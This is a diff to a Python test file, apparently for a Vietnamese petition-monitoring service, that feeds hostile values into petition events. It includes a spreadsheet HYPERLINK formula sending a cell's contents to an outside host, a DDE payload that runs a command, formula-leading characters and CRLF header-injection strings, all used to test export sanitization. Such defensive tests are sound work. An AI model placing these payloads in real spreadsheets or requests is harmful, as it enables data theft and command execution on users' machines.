@@ -14,7 +14,7 @@ from tests.support.apps import auth_headers
 from tests.support.monitoring import assigned_petition, deliver, received, routed
 
 UTC = timezone.utc
-FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'
+FORMULA = '=HYPERLINK("http://e.vn/?"&A1,"Bấm")'  # fits a code column: topics are a closed list now
 
 
 @pytest.mark.parametrize("month", ["0001-01", "2025-01\n", "2025-01\r\nX-Evil: 1", "２０２５-01", " 2025-01", "1999-12"])
@@ -39,11 +39,12 @@ async def test_forged_cursors_are_a_422_on_cursor(client, settings, cursor):
 
 async def _hostile_history(runtime, client, settings) -> None:
     at = datetime.now(UTC) - timedelta(days=90)
-    for topic, agency_code in ((FORMULA, "08.SGTVT"), ("@SUM(1+1)*cmd|' /C calc'!A0", "08.S\x01YT"),
-                               ("+1", "-2"), ("\tthuế", "08.DL")):
+    # Codes and agency codes are free text in events (a topic is one of shared.events.Topic).
+    for code, agency_code in ((FORMULA, "08.SGTVT"), ("@SUM(1+1)*cmd|' /C calc'!A0", "08.S\x01YT"),
+                              ("+1", "-2"), ("\tthuế", "08.DL")):
         petition_id = uuid.uuid4()
-        await deliver(runtime, received(petition_id, at, topic=topic),
-                      routed(petition_id, at + timedelta(hours=1), agency_code=agency_code, topic=topic))
+        await deliver(runtime, received(petition_id, at, code=code),
+                      routed(petition_id, at + timedelta(hours=1), agency_code=agency_code))
     resolved = await client.post(f"/petitions/{petition_id}/status-updates", headers=auth_headers(
         settings, "agency", "08.DL"), json={"status": "resolved", "resolution": "Đã giải quyết xong"})
     assert resolved.status_code in (200, 201), resolved.text
